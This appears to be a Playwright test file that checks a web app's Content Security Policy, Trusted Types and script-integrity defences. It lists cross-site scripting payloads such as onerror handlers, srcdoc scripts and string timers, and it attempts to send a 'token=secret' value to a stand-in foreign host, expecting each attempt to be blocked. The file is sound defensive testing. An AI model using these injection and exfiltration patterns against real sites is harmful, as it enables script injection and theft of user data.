import type { Page } from '@playwright/test';
import { expect, test } from '../../fixtures/test.ts';

/** The browser's Trusted Types API. */
interface TypedWindow {
  readonly trustedTypes: { createPolicy(name: string, rules: object): unknown };
}

const ELSEWHERE = 'https://elsewhere.example';

/** The requests to the foreign host so far; they are aborted, as there is no network in tests. */
async function askedOf(page: Page): Promise<readonly string[]> {
  const asked: string[] = [];
  await page.route(`${ELSEWHERE}/**`, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  return asked;
}

/** Attempts of an attacker who controls a text that the page's code handles; each is made in the page. */
const BREACHES: Readonly<Record<string, () => unknown>> = {
  'markup of an element': () =>
    (document.body.innerHTML = '<img src="/gone.png" onerror="window.ran = true">'),
  'markup next to an element': () =>
    document.body.insertAdjacentHTML('beforeend', '<img src="/gone.png" onerror="window.ran = 1">'),
  'a frame with markup': () =>
    (document.createElement('iframe').srcdoc = '<script>parent.ran = true</script>'),
  'a parsed page': () => new DOMParser().parseFromString('<b>Hear</b>', 'text/html'),
  'a text for a script': () => (document.createElement('script').text = 'window.ran = true'),
  // The type does not allow strings any more, browsers do.
  'a text for later': () => setTimeout('window.ran = true' as unknown as () => void),
  'a handler': () => document.body.setAttribute('onclick', 'window.ran = true'),
  'a script of elsewhere': () =>
    (document.createElement('script').src = 'https://elsewhere.example/script.js'),
  'a script that the registry does not name': () =>
    (document.createElement('script').src = '/shell/unknown.js'),
  'a script of Google’s, where no real project is configured': () =>
    (document.createElement('script').src = 'https://apis.google.com/js/api.js'),
  'a policy that lets everything through': () =>
    (window as unknown as TypedWindow).trustedTypes.createPolicy('own', {
      createHTML: (text: string) => text,
    }),
  'a policy in the shell’s place': () =>
    (window as unknown as TypedWindow).trustedTypes.createPolicy('default', {
      createHTML: (text: string) => text,
    }),
};

test('in the page no text runs as markup or code, no script without its integrity, and no data leaves', async ({
  page,
  asGuest,
  home,
  expectedErrors,
}) => {
  expectedErrors.push(/security policy/i, /Trusted/, /integrity/i);
  const asked = await askedOf(page);
  await asGuest();
  await expect(home.greeting).toBeVisible();
  for (const [what, act] of Object.entries(BREACHES))
    await test.step(what, async () => {
      await expect(page.evaluate(act)).rejects.toThrow(/Trusted|No integrity is known for/);
      expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    });

  await test.step('a script of the product, with and without its integrity', async () => {
    const outcome = await page.evaluate(async () => {
      const { remotes } = JSON.parse(
        document.getElementById('prelude-page')?.textContent ?? '',
      ) as { remotes: readonly { integrity: Readonly<Record<string, string>> }[] };
      const [known] = remotes;
      const [url = '', hash = ''] = Object.entries(known?.integrity ?? {})[0] ?? [];
      const load = (integrity: string): Promise<string> =>
        new Promise((resolve) => {
          const script = document.createElement('script');
          script.src = url;
          script.crossOrigin = 'anonymous';
          script.integrity = integrity;
          script.addEventListener('load', () => resolve('ran'));
          script.addEventListener('error', () => resolve('refused'));
          document.head.append(script);
        });
      return { without: await load(''), with: await load(hash) };
    });
    expect(outcome).toEqual({ without: 'refused', with: 'ran' });
  });

  await test.step('pictures and sound of a foreign host', async () => {
    const blocked = await page.evaluate(async (elsewhere) => {
      const directives: string[] = [];
      const both = new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          // The policy also reports the attempts before.
          if (!/^(img|media)-src$/.test(effectiveDirective)) return;
          if (directives.push(effectiveDirective) === 2) resolve();
        });
      });
      new Image().src = `${elsewhere}/?token=secret`;
      new Audio().src = `${elsewhere}/?token=secret`;
      await both;
      return directives;
    }, ELSEWHERE);
    expect([...blocked].sort()).toEqual(['img-src', 'media-src']);
    expect(asked).toEqual([]);
  });
});
